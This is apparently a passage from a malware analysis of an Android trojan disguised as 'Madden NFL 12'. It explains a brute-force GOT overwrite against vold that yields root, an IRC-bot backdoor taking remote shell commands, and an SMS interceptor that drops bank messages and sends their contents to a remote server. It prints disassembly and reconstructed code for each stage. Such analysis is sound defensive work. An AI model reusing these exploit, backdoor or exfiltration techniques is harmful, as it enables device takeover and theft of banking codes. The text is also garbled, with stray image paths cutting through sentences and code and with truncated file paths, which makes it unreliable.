In the above case, the trojan will retrieve the device path /devices/platform/msm_sdcc.2/mmc_host/mmc1, or it will use that path as a default one if it fails to find any specified devices.Attacking GOT table

At this moment, the trojan knows the boundaries of the GOT table that it intends to overwrite and the offset of system() API - the value it intends to patch GOT table with. This value will be passed as MINOR parameter of the malformed netlink event messages. However, the trojan is not aware what negative index values have to be chosen for the mPartMinors[] array (passed as PARTN parameter) in order to reference GOT table. It's a blindfolded shooting for the trojan.

So it starts a brute-force attack against GOT. In the loop, the trojan selects a number, then constructs a malformed netlink event message with the selected number specified as a negative value for the PARTN parameter and system() API offset as a MINOR parameter, then submits that message to the netlink socket.

Once such message is submitted, there will be an exception generated that specifies that a wrong address of memory was referenced - the trojan wants to know what is that address. More specifically, is that "wrong" address within the boundaries of GOT or not. If the address belongs to GOT, the trojan has hit the spot.

In order to be able to access the exception details with the specified memory address, it redirects log events (by running logcat command with the parameters -c and -f) into the file /data/local/tmp/crashlog. Every time it sends a malformed netlink event message, it parses the contents of thecrashlog file, looking for the presence of the string "fault addr "; if found, it retrieves the specified fault address and compares it against the GOT boundaries:

.text:0000AC34 LDR R3, =(aFAddr - _GLOBAL_OFFSET_TABLE_) ; "fault addr "
.text:0000AC38 LDR R2, [R11,#var_440]
.text:0000AC3C ADD R3, R2, R3
.text:0000AC40 MOV R1, R3
.text:0000AC44 BL strstr ; line contains fault address ("fault addr ")?
.text:0000AC48 MOV R3, R0
.text:0000AC4C STR R3, [R11,#nptr]
.text:0000AC50 LDR R3, [R11,#nptr]
.text:0000AC54 CMP R3, #0
.text:0000AC58 BEQ fault_addr_not_found
.text:0000AC5C LDR R3, [R11,#nptr]
.text:0000AC60 ADD R3, R3, #0xB
.text:0000AC64 STR R3, [R11,#nptr]
.text:0000AC68 LDR R0, [R11,#nptr] ; nptr
.text:0000AC6C MOV R1, #0 ; endptr
.text:0000AC70 MOV R2, #0x10 ; base
.text:0000AC74 BL strtoul ; if so, convert it into unsigned long integer

Once the trojan encounters a logged exception that states that thewrong address was accessed (the line with the "fault addr " string), and that address belongs to GOT, it now assumes that the aligned address within GOT was now overwritten with the system() API. It does not know what API offset was overwritten, but it does not care; it just assumes that during a normal netlink event processing, some of the overwritten API will eventually be called. Once an unknown API offset within GOT is overwritten, it falls asleep for 500 sec before exploiting it.

Exploiting patched GOT table

The exploit itself works this way: the trojan again constructs a malformed netlink event message. Only this time it specifies PARTN parameter as 1 - a perfectly valid numberthat will cause no exceptions due to wrong memory addressing. The other parameters however, will now be specified in form of an offset to the file path name of the trojan's own copy that it drops as /data/local/tmp/boomsh.

The guess is simple - vold's handlePartitionAdded() function will now be triggered again. The PARTN parameter check will pass Ok now. However, at some point of processing the incoming netlink event message parameters, vold will try to call one of the imported APIs. For example, as seen in the source file, the very first line of the handlePartitionAdded() function is:int major = atoi(evt->findParam("MAJOR"));

evt->findParam("MAJOR") command will retrieve a string that was specified as MAJORparameter - that string will be the full path filename of the trojan's copy: /data/local/tmp/boomsh.

Next, vold'd code will try to convert that string into an integer, so it will call atoi() API by calling the function at the offset specified within GOT and passing /data/local/tmp/boomsh as a function parameter. However, since the offset of atoi() within compromised GOT can now potentially be overwritten with the offset of system() API, the execution flow with follow the wrong direction, factually calling system("/data/local/tmp/boomsh"). This will run (re-run) the trojan executable with the root privilege.

Running with the root privileges

When the trojan executable starts, it checks if it's file name (the first argument of its own command line) contains boomsh string. This part of description was intentionally skipped (to keep the cart behind the horse). If the trojan detects it was executed as boomsh, it simply means that the exploit has worked: the trojan was executed under vold account due to patched GOT and that now it has the root privileges inherited from the parent process.

In this case, the trojan initiates the 2nd stage of its attack - running footer01.png, the ELF executable that was dropped by the malicious Android app "Madden NFL 12" into the same directory as header01.png.

.text:0000AE18 LDR R3, =(bot - 0xC100) ; /data/data/
.text:0000AE1C ADD R3, R4, R3 ; bot
.text:0000AE20 LDR R3, [R3]
.text:0000AE24 MOV R0, R3 ; file
.text:0000AE28 MOV R1, #0 ; owner
.text:0000AE2C MOV R2, #0 ; group
.text:0000AE30 BL chown
.text:0000AE34 LDR R3, =(bot - 0xC100)
.text:0000AE38 ADD R3, R4, R3 ; bot
.text:0000AE3C LDR R3, [R3]
.text:0000AE40 MOV R0, R3 ; file
.text:0000AE44 MOV R1, 0x9C9 ; mode.text:0000AE4C BL chmod
.text:0000AE50 LDR R3, =(bot - 0xC100)
.text:0000AE54 ADD R3, R4, R3 ; bot
.text:0000AE58 LDR R2, [R3]
.text:0000AE5C LDR R3, =(bot - 0xC100) ; /data/data/
.text:0000AE60 ADD R3, R4, R3 ; bot
.text:0000AE64 LDR R3, [R3]
.text:0000AE68 MOV R0, R2 ; file
.text:0000AE6C MOV R1, R3 ; arg
.text:0000AE70 MOV R2, #0
.text:0000AE74 BL execlp ; run footer01.png
.text:0000AE78 MOV R0, #0 ; status
.text:0000AE7C BL exit ; job's done - quit

ELF executable footer01.png

footer01.png is a backdoor trojan implemented as an IRC bot.

When run, it firstly leaves a marker about the fact that the system is "rooted" (otherwise, it would have not been run by header01.png) by placing 1 into the file /data/data/

.text:000094D4 LDR R3, =0xFFFFF6E0 ; "echo 1 > /data/data/"
.text:000094D8 LDR R2, [R11,#var_38]
.text:000094DC ADD R3, R2, R3
.text:000094E0 MOV R0, R3 ; command
.text:000094E4 BL system ; run "echo 1 >.." to leave the marker in "rooted"

The bot sets the read/write access for the owner and read-only access by everyone else to the file /data/data/ This is the 3rd file dropped by the inital app "Madden NFL 12" - this file is an Android app (APK file).

Next, it installs that app with the package manager, invokes the with the activity manager (the main activity of the border01.png app), and sets a flag about that component activation by placing 1 into the file /etc/sent:

.text:00009584 LDR R3, =0xFFFFF7B0 ; "chmod0644 /data/data/.../border01.png"
.text:00009588 LDR R2, [R11,#var_38].text:0000958C ADD R3, R2, R3
.text:00009590 MOV R0, R3 ; command
.text:00009594 BL system ; run "chmod 0644" on "border01.png"
.text:00009598 MOV R0, #5 ; seconds
.text:0000959C BL sleep
.text:000095A0 LDR R3, =0xFFFFF7F0 ; "pm install -r /data/data/.../border01.png"
.text:000095A4 LDR R2, [R11,#var_38]
.text:000095A8 ADD R3, R2, R3
.text:000095AC MOV R0, R3 ; command
.text:000095B0 BL system ; run "pm install" to install "border01.png"
.text:000095B4 MOV R0, #3 ; seconds
.text:000095B8 BL sleep ; sleep 3 sec.
.text:000095BC LDR R3, =0xFFFFF830 ; "am start -n"
.text:000095C0 LDR R2, [R11,#var_38]
.text:000095C4 ADD R3, R2, R3
.text:000095C8 MOV R0, R3 ; command
.text:000095CC BL system ; run "am start" to start "AndroidMeActivity"
.text:000095D0 MOV R0, #30 ; seconds.text:000095D4 BL sleep ; sleep 30 sec.
.text:000095D8 LDR R3, =(aEcho1EtcSent - _GLOBAL_OFFSET_TABLE_) ; "echo 1 > /etc/sent"
.text:000095DC LDR R2, [R11,#var_38]
.text:000095E0 ADD R3, R2, R3
.text:000095E4 MOV R0, R3 ; command
.text:000095E8 BLsystem ; run "echo 1" to leave the marker in "/etc/sent"

Following that, it connects to the remote IRC server located at IP, generates a random user name, then logs on to IRC server by using that name.

The bot then joins IRC channel #andros at the server and then keeps waiting for the private messageson the channel.

Once such message is received, the bot parses its content (a string that follows PRIVMSG), then treats it as a remote command. In total, there 3 remote commands:

  • If the bot receives "sh" command, it will run the specified command or executable with the system() call, then respond back the message:
    PRIVMSG #andros :[SH] - %COMMAND_TO_RUN%.

  • The received command "id" will make the bot reply back the user ID of the calling process, that is obtained with the getuid() call:
    PRIVMSG #andros :[ID] - %REAL_USER_ID%.

  • Command "exit" will force the bot to exit; before exiting it replies back:
    PRIVMSG #andros :[EXIT] - exiting ordered...

Part of the disassembled code that parses the backdoor command "sh":

.text:000091C4 LDR R3, =(aSh - _GLOBAL_OFFSET_TABLE_)
.text:000091C8 LDR R2, [R11,#var_62C]
.text:000091CC ADD R3, R2, R3
.text:000091D0 MOV R1, R3 ; s2
.text:000091D4 MOV R2, #3 ; n.text:000091D8 BL strncmp ; is the received command "sh"?
.text:000091DC MOV R3, R0
.text:000091E0 CMP R3, #0
.text:000091E4 BNE next_1 ; if not, check if it's the next command
.text:00009280 MOV R0, R3 ; command
.text:00009284 BL system ; run the received command/executable
.text:00009288 SUB R12, R11, #-var_410
.text:0000928C SUB R12, R12, #4
.text:00009290 SUB R12, R12, #4
.text:00009294 LDR R0,[R11,#var_620]
.text:00009298 LDR R3, =0xFFFFF650 ; "PRIVMSG %s :[SH] - %s."
.text:0000929C LDR R1, [R11,#var_62C]
.text:000092A0 ADD R3, R1, R3
.text:000092A4 MOV R1, R3
.text:000092A8 LDR R3, =0xFFFFF638 ; "#andros"
.text:000092AC LDR R2, [R11,#var_62C]
.text:000092B0 ADD R3, R2, R3.text:000092B4 MOV R2, R3
.text:000092B8 MOV R3, R12
.text:000092BC BL IRCSend ; reply "PRIVMSG #andros :[SH] - %COMMAND%."

border01.png - Android app that intercepts SMS

As explained above, border01.png is started by the executable footer01.png.

This app is responsible for the SMS message interception logic. The received SMS messages are intercepted with the broadcast receiver SMSReceiver. Its onReceive() method is called upon receiving an intent broadcast which is generated when an SMS is received.

With the onReceive() method invoked, the code retrieves 2 fields from the received SMS message: message body and the sender's address. If the sender's address is one the following values, then it is aborted:

  • 81083

  • 3075

  • 64747

  • 60999• 63000

  • 35024

  • 2052

  • 7604

  • 1339

  • 9903

  • 2227

  • 72225

  • 23333

as seen in the reconstructed source code of the trojan:str1 = arrayOfSmsMessage[0].getMessageBody();
str2 = arrayOfSmsMessage[0].getDisplayOriginatingAddress();
if ((str2.equals("81083")) || (str2.equals("3075")) || (str2.equals("64747")) ||
(str2.equals("60999")) || (str2.equals("63000")) || (str2.equals("35024")) ||
(str2.equals("2052")) || (str2.equals("7604")) || (str2.equals("1339")) ||
(str2.equals("9903")) || (str2.equals("2227")) || (str2.equals("72225")) ||

Next, regardless if the SMS message was aborted or not, the malware will submit the intercepted SMS message body and sender's address to the remote server located at IP, as shownbelow:

DefaultHttpClient localDefaultHttpClient = new DefaultHttpClient();
HttpGet localHttpGet = new HttpGet();
String str3 = "" + str2 + "///" + str1;
URI localURI = new URI(str3);
HttpResponse localHttpResponse = localDefaultHttpClient.execute(localHttpGet);

The remote server will presumably be able to notify the remote attacker (subject to how the server-based code is implemented) on any online banking passwords received during the two-factor authentication process. As the broadcast receiver drops (aborts) the SMS messages that might be originating from the addresses that the attacker recognises as online-banking ones, the passwords sent with SMS by the bank to the customers with the infected phones might never reach them.

On top of that, the app will start sending SMS messages to the premium-rated numbers. For that, the malware obtains the SIM provider's country code first with getSimCountryIso(), then depending on the country it sets up adifferent premium-rate number to send the SMS to.